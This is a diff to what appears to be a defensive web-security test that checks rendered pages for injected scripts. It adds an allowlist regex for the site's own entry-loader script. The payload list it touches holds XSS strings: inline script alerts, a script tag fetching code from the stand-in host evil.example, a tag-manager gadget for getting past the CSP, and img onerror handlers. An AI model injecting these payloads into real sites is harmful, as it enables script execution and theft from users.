@@ -14,7 +14,7 @@ const js = `alert('${MARK}')`;
 export const HTML_PAYLOADS = [
   `<script>${js}</script>`,
   `<SCRIPT SRC=https://evil.example/${MARK}.js></SCRIPT>`,
-  // script-src allows the tag manager's origin when one is configured: its loader with another container is a gadget.
+  // The tag manager's loader with another container is a gadget (the CSP refuses it too: docs/decisions/0054-strict-dynamic-csp.md).
   `<script src="https://www.googletagmanager.com/gtm.js?id=GTM-${MARK}"></script>`,
   `<img src=x onerror=${js}>`,
   `<img src="/media/site-image.webp" onerror="${js}">`,
@@ -96,7 +96,10 @@ function schemeOf(value: string): string {
   return match ? match[1] : '';
 }
 
-/** The page's own scripts: its bundle, one inline state script, and JSON-LD data that parses as JSON. */
+const ENTRY_LOADER =
+  /^\(\(\)=>\{const s=document\.createElement\('script'\);s\.type='module';s\.crossOrigin='anonymous';s\.fetchPriority='low';s\.integrity="sha384-[A-Za-z0-9+/=]+";s\.src="\/assets\/[\w.-]+\.js";document\.body\.appendChild\(s\)\}\)\(\)$/;
+
+/** The page's own scripts: its bundle, its entry loader, one inline state script, and JSON-LD data that parses as JSON. */
 function isPageScript(script: Element, inlineStateSeen: { value: boolean }): boolean {
   const src = script.getAttribute('src');
   if (src !== null) return /^\/(assets|src)\//.test(src) && script.attributes.length <= 4;
@@ -110,6 +113,8 @@ function isPageScript(script: Element, inlineStateSeen: { value: boolean }): boo
       return false;
     }
   }
+  // The entry loader (server/platform/pages/scriptIntegrity.ts): it adds one built file of the site's own.
+  if (type === null && ENTRY_LOADER.test(text)) return true;
   if (type === null && !inlineStateSeen.value && /^window\.__(APOLLO_STATE|APP_CONFIG)__=/.test(text)) {
     inlineStateSeen.value = true;
     return true;
